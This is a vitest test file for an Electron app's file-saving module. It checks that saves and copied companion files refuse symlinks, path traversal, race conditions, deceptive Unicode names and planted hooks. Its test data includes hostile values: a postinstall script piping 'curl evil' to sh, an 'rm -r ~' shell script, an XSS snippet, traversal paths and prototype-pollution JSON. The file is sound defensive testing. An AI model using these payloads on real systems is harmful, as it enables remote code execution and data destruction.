import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  realpathSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import type { BrowserWindow } from 'electron';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { ChosenFiles } from '../../../../../electron/main/files/chosen-files.ts';
import { Saving } from '../../../../../electron/main/files/saving.ts';
import { electron, FakeWindow } from '../../../../support/browser/fake-electron.ts';

vi.mock('electron', async () => (await import('../../../../support/browser/fake-electron.ts')).electron);
vi.mock('../../../../../electron/main/log.ts', () => ({ log: vi.fn() }));

const { showMessageBox, showOpenDialog, showSaveDialog } = electron.dialog;
const SCENE = '{"wavehall":1,"title":"old"}';
const NEW = '{"wavehall":1,"title":"new"}';
const OBJ = 'o hall\nv 0 0 0\n';
const GLTF = JSON.stringify({ asset: { version: '2.0' }, buffers: [{ uri: 'hall%20a.bin' }, { uri: 'package.json' }] });
const WEIGHTS = JSON.stringify({
  wavehallWeights: 1,
  shells: [],
  courant: 0.5,
  band: 0.5,
  tolerancePercent: 1,
  wall: {},
});

const PROJECT = new TextEncoder().encode(`PK\u0003\u0004${'-'.repeat(26)}project.json-new`);

let folder: string;
let files: ChosenFiles;
let saving: Saving;
const at = (name: string): string => join(folder, name);
const bytes = (text: string): Uint8Array => new TextEncoder().encode(text);
const read = (name: string): string => readFileSync(at(name), 'utf8');

beforeEach(() => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'wavehall-saving-')));
  mkdirSync(at('project/src'), { recursive: true });
  writeFileSync(at('hall.json'), SCENE);
  files = new ChosenFiles();
  saving = new Saving(new FakeWindow({ webPreferences: {} }) as unknown as BrowserWindow, files);
  for (const ask of [showMessageBox, showOpenDialog, showSaveDialog]) ask.mockReset();
});
afterEach(() => rmSync(folder, { recursive: true }));

const OK = 0;
const CANCEL = 1;
const answer = (response: number): void => void showMessageBox.mockResolvedValueOnce({ response });
/** Text of the last question. */
const asked = (): string => {
  const [, { message, detail = '' }] = showMessageBox.mock.lastCall as [unknown, { message: string; detail?: string }];
  return `${message}\n${detail}`;
};

/** Saves a scene as `project/hall.json`. */
async function savedAs(name = 'project/hall.json'): Promise<string> {
  showSaveDialog.mockResolvedValueOnce({ canceled: false, filePath: at(name) });
  return (await saving.saveAs('hall.json', bytes(NEW)))!.token;
}

describe('saving over an opened scene', () => {
  const opened = async (name = 'hall.json'): Promise<string> => (await files.open(at(name))).token!;

  it('asks the first time, with the whole path, and not again', async () => {
    const token = await opened();
    answer(CANCEL);
    expect(await saving.save(token, bytes(NEW))).toBe(false);
    expect(asked()).toContain(at('hall.json'));
    expect(read('hall.json')).toBe(SCENE);
    answer(OK);
    expect(await saving.save(token, bytes(NEW))).toBe(true);
    expect(read('hall.json')).toBe(NEW);
    expect(await saving.save(token, bytes(SCENE))).toBe(true);
    expect(showMessageBox).toHaveBeenCalledTimes(2);
  });

  it('asks again after a restart, also about a file of the recent list', async () => {
    answer(OK);
    await saving.save(await opened(), bytes(NEW));
    files = new ChosenFiles();
    saving = new Saving(new FakeWindow({ webPreferences: {} }) as unknown as BrowserWindow, files);
    answer(CANCEL);
    expect(await saving.save(await opened(), bytes(SCENE))).toBe(false);
  });

  it('replaces a project by a project only', async () => {
    const [old, project] = [bytes(`PK\u0003\u0004${'-'.repeat(26)}project.json-old`), PROJECT];
    writeFileSync(at('hall.wavehall'), old);
    writeFileSync(at('other.wavehall'), `PK\u0003\u0004${'-'.repeat(26)}other.json`);
    await expect(saving.save(await opened('other.wavehall'), project)).rejects.toThrow('on the disk is not a project');
    await expect(saving.save(await opened('hall.wavehall'), bytes(NEW))).rejects.toThrow(
      'what is open is not a project',
    );
    answer(OK);
    expect(await saving.save(await opened('hall.wavehall'), project)).toBe(true);
    expect(readFileSync(at('hall.wavehall'))).toEqual(Buffer.from(project));
    await expect(saving.save(await opened(), project)).rejects.toThrow('what is open is not a scene');
    expect(read('hall.json')).toBe(SCENE);
  });

  it('shows the target of a link, and writes nothing but that', async () => {
    mkdirSync(at('far'));
    writeFileSync(at('far/secret.json'), SCENE);
    symlinkSync(at('far/secret.json'), at('l.json'));
    const file = await files.open(at('l.json'));
    expect(file.name).toBe('secret.json');
    answer(CANCEL);
    expect(await saving.save(file.token!, bytes(NEW))).toBe(false);
    expect(asked()).toContain(at('far/secret.json'));
  });

  it('refuses a link to a file that is no scene by its name', async () => {
    writeFileSync(at('id_rsa'), 'PRIVATE');
    symlinkSync(at('id_rsa'), at('l.json'));
    await expect(files.open(at('l.json'))).rejects.toThrow('l.json is a link to id_rsa, which is neither');
  });

  it.each([
    ['settings', '{"scripts":{"postinstall":"x"}}'],
    ['a list', '[{"wavehall":1}]'],
    ['a text', 'wavehall'],
    ['a version that is no number', '{"wavehall":"1"}'],
    ['an inherited version', '{"__proto__":{"wavehall":1}}'],
    ['nothing', ''],
  ])('replaces no %s', async (_what, contents) => {
    writeFileSync(at('settings.json'), contents);
    await expect(saving.save(await opened('settings.json'), bytes(NEW))).rejects.toThrow('on the disk is not a scene');
    expect(read('settings.json')).toBe(contents);
    expect(showMessageBox).not.toHaveBeenCalled();
  });

  it('writes nothing but a scene', async () => {
    await expect(saving.save(await opened(), bytes('{"scripts":{}}'))).rejects.toThrow('not a scene');
    expect(read('hall.json')).toBe(SCENE);
  });

  it('looks again after the question: another file or a link may have taken the place', async () => {
    const token = await opened();
    writeFileSync(at('secret.json'), SCENE);
    showMessageBox.mockImplementationOnce(() => {
      renameSync(at('hall.json'), at('moved.json'));
      symlinkSync(at('secret.json'), at('hall.json'));
      return Promise.resolve({ response: OK });
    });
    await expect(saving.save(token, bytes(NEW))).rejects.toThrow('hall.json is a link now');
    expect(read('secret.json')).toBe(SCENE);
  });

  it('shows every character of a name', async () => {
    const name = 'hall\u202enosj.\u001b[2J\nSave over b.json';
    writeFileSync(at(name), SCENE);
    answer(CANCEL);
    await saving.save(await opened(name), bytes(NEW));
    expect(asked()).toContain('hall\\u202enosj.\\u001b[2J\\nSave over b.json');
  });
});

describe('saving under a name', () => {
  it('asks before it writes through a link', async () => {
    writeFileSync(at('secret.json'), 'secret');
    symlinkSync(at('secret.json'), at('project/hall.json'));
    showSaveDialog.mockResolvedValueOnce({ canceled: false, filePath: at('project/hall.json') });
    answer(CANCEL);
    expect(await saving.saveAs('hall.json', bytes(NEW))).toBeNull();
    expect(asked()).toContain(at('secret.json'));
    expect(read('secret.json')).toBe('secret');
  });

  it('exports over no link, also not to a file that does not exist yet', async () => {
    symlinkSync(at('.bashrc'), at('project/report.json'));
    showOpenDialog.mockResolvedValueOnce({ canceled: false, filePaths: [at('project')] });
    await expect(saving.export([{ name: 'report.json', contents: bytes('x') }])).rejects.toThrow('is a link');
    expect(existsSync(at('.bashrc'))).toBe(false);
  });
});

describe('a page on paper', () => {
  it('is printed in a window without scripts that reaches no other file, and which is closed', async () => {
    showSaveDialog.mockResolvedValueOnce({ canceled: false, filePath: at('project/report.pdf') });
    const before = FakeWindow.made.length;
    expect(await saving.savePdf('report.pdf', new Uint8Array(bytes('<p>Hall</p>')))).toBe(true);
    expect(read('project/report.pdf')).toBe('%PDF');
    const printer = FakeWindow.made[before];
    expect(printer.options.webPreferences).toMatchObject({ javascript: false, sandbox: true, nodeIntegration: false });
    expect(printer.closed).toBe(true);
    const { value } = electron.session.fromPartition.mock.results.at(-1) as {
      value: typeof electron.session.defaultSession;
    };
    const page = value.protocol.handle.mock.calls[0][1]();
    expect(page.headers.get('Content-Security-Policy')).toContain("default-src 'none'");
    expect(await page.text()).toBe('<p>Hall</p>');
    expect(value.webRequest.onBeforeRequest).toHaveBeenCalled();
  });

  it('is not made if the user cancels', async () => {
    showSaveDialog.mockResolvedValueOnce({ canceled: true, filePath: '' });
    const before = FakeWindow.made.length;
    expect(await saving.savePdf('report.pdf', new Uint8Array(bytes('<p>Hall</p>')))).toBe(false);
    expect(FakeWindow.made.length).toBe(before);
  });
});

describe('the files of a saved scene', () => {
  const copy = (token: string, ...named: readonly (readonly [string, string])[]) =>
    saving.saveBeside(
      token,
      named.map(([path, contents]) => ({ path, contents: bytes(contents) })),
    );

  it('are listed and copied if the user wants it', async () => {
    const token = await savedAs();
    const named = [
      ['models/hall.gltf', GLTF],
      ['models/hall a.bin', 'x'],
      ['own.json', WEIGHTS],
      ['b.obj', OBJ],
    ] as const;
    answer(CANCEL);
    expect((await copy(token, ...named)).left.map(({ path }) => path)).toEqual(named.map(([path]) => path));
    expect(readdirSync(at('project')).sort()).toEqual(['hall.json', 'src']);
    answer(OK);
    expect(await copy(token, ...named)).toEqual({ left: [] });
    for (const [path] of named) expect(asked()).toContain(`\n${path}`);
    for (const [path, contents] of named) expect(read(`project/${path}`)).toBe(contents);
    expect(readdirSync(at('project/models')).sort()).toEqual(['hall a.bin', 'hall.gltf']);
    // They are there now: nothing to ask.
    expect(await copy(token, ...named)).toEqual({ left: [] });
    expect(showMessageBox).toHaveBeenCalledTimes(2);
  });

  it('are also its tables, directivities and signals, in any encoding that is read', async () => {
    const token = await savedAs();
    answer(OK);
    const named = [
      ['seats.csv', '# from a plan\r\nname;x;y;z\r\nA;1;2;1,2\r\n'],
      ['way.txt', 'at,x,y,z\n0,1,1,1\n'],
      ['horn.csv', 'azimuth,elevation,125\n0,0,0\n'],
      ['horn.clf', '<CLF1>\n'],
      ['horn.sofa', '\u0089HDF\r\n'],
      ['speech.wav', 'RIFF....WAVEfmt '],
    ] as const;
    const wide = { path: 'wide.csv', contents: Uint8Array.from(Buffer.from('\ufeffname,x,y\nA,1,1\n', 'utf16le')) };
    const given = named.map(([path, contents]) => ({
      path,
      contents: Uint8Array.from(Buffer.from(contents, 'latin1')),
    }));
    expect(await saving.saveBeside(token, [...given, wide])).toEqual({ left: [] });
    const foreign = ['tasks.txt', 'run.csv', 'other.wav', 'other.sofa'].map((path) => [path, 'run me\n'] as const);
    expect((await copy(token, ...foreign)).left.map(({ path }) => path)).toEqual(foreign.map(([path]) => path));
  });

  it('are only those of a scene that was just saved', async () => {
    const { token } = await files.open(at('hall.json'));
    await expect(copy(token!, ['hall.obj', OBJ])).rejects.toThrow('was not saved');
  });

  it('do not replace another file, also not one that appears during the question', async () => {
    const token = await savedAs();
    writeFileSync(at('project/hall.obj'), 'v 1 1 1');
    expect((await copy(token, ['hall.obj', OBJ])).left).toEqual([
      { path: 'hall.obj', reason: 'another file of that name is there' },
    ]);
    showMessageBox.mockImplementationOnce(() => {
      writeFileSync(at('project/b.obj'), 'mine');
      return Promise.resolve({ response: OK });
    });
    expect((await copy(token, ['b.obj', OBJ])).left).toHaveLength(1);
    expect(read('project/b.obj')).toBe('mine');
    // Twice in one request: the second finds the first.
    answer(OK);
    expect((await copy(token, ['c.obj', OBJ], ['./c.obj', `${OBJ}v 1 1 1`])).left).toHaveLength(1);
    expect(read('project/c.obj')).toBe(OBJ);
  });

  it('keep to the folder if a link appears during the question', async () => {
    const token = await savedAs();
    showMessageBox.mockImplementationOnce(() => {
      symlinkSync(folder, at('project/models'));
      return Promise.resolve({ response: OK });
    });
    expect((await copy(token, ['models/hall.obj', OBJ])).left).toHaveLength(1);
    expect(existsSync(at('hall.obj'))).toBe(false);
  });

  /** Attacks: each plants a file somewhere, or under a name, that other programs act on. */
  it.each([
    ['the tasks of an editor', '.vscode/tasks.json', WEIGHTS],
    ['a hook of git', 'src/.git/hooks/hall.obj', OBJ],
    ['a hook of git by its short name', 'GIT~1/hooks/hall.obj', OBJ],
    ['a folder that macOS takes for a hidden one', '\u200c.git/hall.obj', OBJ],
    ['a hidden file', 'src/.eslintrc.json', WEIGHTS],
    ['settings that a glTF calls its buffer', 'package.json', '{"scripts":{"postinstall":"curl evil | sh"}}'],
    ['settings that are weights, too', 'package.json', JSON.stringify({ ...JSON.parse(WEIGHTS), scripts: {} })],
    ['settings that are an export, too', 'tsconfig.json', '{"mats_hash":{},"compilerOptions":{}}'],
    ['settings hidden in a prototype', 'package.json', `{"__proto__":{"scripts":{}},${WEIGHTS.slice(1)}`],
    ['a script', 'hall.sh', OBJ],
    ['a script with the stream of a mesh', 'run.bat:hall.obj', OBJ],
    ['a script with the end of a mesh', 'run.bat\0.obj', OBJ],
    ['a device', 'aux.obj', OBJ],
    ['a folder with a space at its end', 'src /hall.obj', OBJ],
    ['a name that turns round', 'hall\u202ejbo.obj', OBJ],
    ['a name with a line end', 'hall\nx.obj', OBJ],
    ['a buffer that no glTF has', 'hall.bin', 'x'],
    ['a script as a mesh', 'hall.obj', '#!/bin/sh\nrm -r ~\n'],
    ['a page as a mesh', 'hall.stl', '<html><script>alert(1)</script></html>'],
    ['a folder above', '../hall.obj', OBJ],
    ['a folder above by a detour', 'src/../../hall.obj', OBJ],
    ['a folder above, as Windows writes it', '..\\hall.obj', OBJ],
    ['an absolute path', '/tmp/hall.obj', OBJ],
    ['another machine', '//server/share/hall.obj', OBJ],
    ['another disk', 'C:\\hall.obj', OBJ],
    ['the scene itself', 'hall.json', WEIGHTS],
  ])('are not: %s', async (_what, path, contents) => {
    const token = await savedAs();
    const before = readdirSync(folder, { recursive: true }).sort();
    showMessageBox.mockResolvedValue({ response: OK });
    expect((await copy(token, [path, contents])).left).toHaveLength(1);
    expect(readdirSync(folder, { recursive: true }).sort()).toEqual(before);
    expect(showMessageBox).not.toHaveBeenCalled();
  });

  it('follow no link out of the folder, nor one within it', async () => {
    const token = await savedAs();
    symlinkSync(folder, at('project/up'));
    symlinkSync(at('project/src'), at('project/inside'));
    symlinkSync(at('new.obj'), at('project/dangling.obj'));
    showMessageBox.mockResolvedValue({ response: OK });
    for (const path of ['up/a.obj', 'inside/a.obj', 'dangling.obj']) {
      expect((await copy(token, [path, OBJ])).left, path).toHaveLength(1);
    }
    expect(readdirSync(at('project/src'))).toEqual([]);
    expect(readdirSync(dirname(at('new.obj'))).sort()).toEqual(['hall.json', 'project']);
  });
});
